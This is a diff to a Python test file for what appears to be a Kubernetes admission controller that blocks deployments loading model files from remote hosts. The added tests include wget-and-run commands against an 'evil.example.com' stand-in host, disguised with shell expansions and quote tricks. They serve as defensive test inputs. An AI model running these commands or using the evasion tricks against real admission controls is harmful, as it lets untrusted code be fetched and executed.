@@ -280,6 +280,7 @@ def test_a_secret_the_command_line_does_not_reference_is_admitted(admission_worl
     ({"args": ["--model", "10.1.2.3/evil/model.onnx"]}, "args[1]", "10.1.2.3/evil/model.onnx"),
     ({"args": ["--model=evil-minio:9000/bucket/m"]}, "args[0]", "evil-minio:9000/bucket/m"),
     ({"args": ["--model='attacker.example:443/m.onnx'"]}, "args[0]", "attacker.example:443/m.onnx"),
+    ({"args": ["--model=[2001:db8::7]:9000/m"]}, "args[0]", "[2001:db8::7]:9000/m"),
 ])
 def test_a_url_without_a_scheme_is_a_remote_location(admission_world: AdmissionWorld, change: dict[str, Any],
                                                      field: str, shown: str) -> None:
@@ -299,10 +300,27 @@ def test_a_url_without_a_scheme_is_a_remote_location(admission_world: AdmissionW
     ("xn--80ak6aa92e.xn--p1ai/m", "xn--80ak6aa92e.xn--p1ai/m"),
     ("/mnt/models/a.b/c", None), ("a.b/c", None), ("model.v2/weights", None), ("--ratio=0.5/1", None),
     ("localhost:8080/health", None), ("http://[::1]:8080/x", None), ("1.2.3.4.5/x", None),
-    ("evil_host.example.com/m", None),
+    ("evil_host.example.com/m", None), ("[::1]:8080/health", None), ("${HOME}/models/m.onnx", None),
+    ("$(POD_NAME)-$(POD_NAMESPACE)/x", None), ("sh -c 'cd $HOME && exec serve ./model.onnx'", None),
 ])
 def test_remote_location_vectors(text: str, want: str | None) -> None:
     assert remote_location(text) == want
+
+
+@pytest.mark.parametrize("script", [
+    "wget -O /tmp/m ${UNSET}.evil.example.com/m && serve /tmp/m",
+    "wget -O /tmp/m $(hostname).evil.example.com/m && serve /tmp/m",
+    "wget -O /tmp/m `hostname`.evil.example.com/m && serve /tmp/m",
+    "wget -O /tmp/m $UNSET.evil.example.com/m && serve /tmp/m",
+    "wget -O /tmp/m ev''il.example.com/m && serve /tmp/m",
+    'wget -O /tmp/m ev""il.example.com/m && serve /tmp/m',
+    "wget -O /tmp/m ev\\il.example.com/m && serve /tmp/m",
+])
+def test_a_shell_cannot_hide_a_host_behind_an_expansion_or_quotes(admission_world: AdmissionWorld,
+                                                                  script: str) -> None:
+    obj = deployment_with(admission_world, command=["sh", "-c", script])
+    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "spec.template.spec.containers[0].command[2] names the "
+           "remote location", "il.example.com/m")
 
 
 def test_file_paths_and_endpoints_are_not_remote_locations(admission_world: AdmissionWorld) -> None:
